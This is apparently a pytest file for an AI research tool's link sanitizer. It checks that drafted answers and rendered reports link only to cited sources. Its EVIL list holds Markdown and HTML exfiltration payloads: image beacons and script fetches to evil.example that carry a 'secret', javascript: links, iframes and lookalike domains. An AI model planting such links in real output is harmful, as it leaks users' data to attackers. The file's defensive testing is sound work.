"""Links: an answer leads to its sources and nowhere else, however the link is written."""

import asyncio

import pytest
from markdown_it import MarkdownIt

from suffice import research
from suffice.prompts import PlannedQuery, PlanResponse, ReflectionResponse, SynthesisResponse
from suffice.report import html, markdown
from suffice.testing import FixtureSearch, ScriptedModel
from suffice.text.markdown import neutralize_links
from suffice.types import Passage, Place

SOURCE = "https://tea.example/assam?page=1"
EVIL = [
    "![](https://evil.example/p.png?q=secret)",
    "![alt text][pixel]\n\n[pixel]: https://evil.example/p.png",
    "[click](https://evil.example/)",
    "[click]( <https://evil.example/a b> 'title')",
    "[click][there]\n\n[there]: https://evil.example/ 'title'",
    "[there]\n\n[there]: https://evil.example/",
    "[1](https://evil.example/)",
    "[![inner](https://evil.example/a.png)](https://evil.example/)",
    "[a [nested] text](https://evil.example/)",
    "[`code`](https://evil.example/)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,hello)",
    "<https://evil.example/>",
    "<mailto:thief@evil.example>",
    "<thief@evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example/collect",
    "<img src='https://evil.example/p.png'>",
    "<a href=https://evil.example/>click</a>",
    "<script>fetch('https://evil.example/')</script>",
    "<iframe src=//evil.example></iframe>",
    "[tea](https://tea.example.evil.example/assam)",
    "[tea](//evil.example/)",
    "[tea](https://tea.example/assam?page=1&stolen=secret)",
    "![tea](https://tea.example/assam?page=1)",
    "\\![x](https://evil.example/)",
]


def followed(text: str) -> set[str]:
    """Every address that a viewer of Markdown would offer or fetch."""
    found = set()
    for token in MarkdownIt("commonmark").parse(text):
        for part in (token, *(token.children or ())):
            assert part.type not in ("html_block", "html_inline")
            found |= {str(part.attrGet(name)) for name in ("href", "src") if part.attrGet(name)}
    return found


@pytest.mark.parametrize("text", EVIL)
def test_a_link_to_anything_else_is_plain_text(text):
    safe = neutralize_links(f"Tea grows in Assam [1]. {text}\n\nIt is brewed.", [SOURCE])
    assert followed(safe) <= {SOURCE}
    assert "Tea grows in Assam [1]." in safe
    assert "It is brewed." in safe
    assert "`" in safe or "https://evil.example" not in safe or "&#40;" in safe


@pytest.mark.parametrize("text", [f"See [the page]({SOURCE}) [1].", f"See <{SOURCE}>.", f"See {SOURCE}."])
def test_a_link_to_a_source_stays(text):
    assert neutralize_links(text, [SOURCE]) == text


@pytest.mark.parametrize(
    "text",
    [
        "a[0] is the first, `x[1](y)` a call [2].",
        "Use `https://example.com/` as `base`.",
        "```\n![x](y)\n```",
        "5 < 6 [1]",
    ],
)
def test_what_is_no_link_stays(text):
    assert neutralize_links(text, ()) == text


@pytest.mark.parametrize("text", EVIL)
def test_a_report_leads_to_its_sources_only(text):
    found = Passage("a", "Tea has been grown in Assam since 1837.", "Tea", Place(SOURCE), "web")
    answer = f"Tea has been grown in Assam since 1837 [1]. {text}"
    model = ScriptedModel(
        {
            "plan": [PlanResponse((PlannedQuery("tea"),))],
            "reflect": [ReflectionResponse(True, 0.9, (), ())],
            "draft": [SynthesisResponse(answer, answer, (answer,))],
        }
    )
    report = asyncio.run(research("Since when?", search=FixtureSearch(default=[found]), model=model, review=False))
    assert followed(report.final_answer) <= {SOURCE}
    assert "](https://evil" not in markdown.render_markdown(report)
    assert "![" not in markdown.render_markdown(report)
    assert all(address == SOURCE for line in report.key_findings for address in followed(line))
    assert 'href="https://evil' not in html.render_html(report)
    assert "<img" not in html.render_html(report)
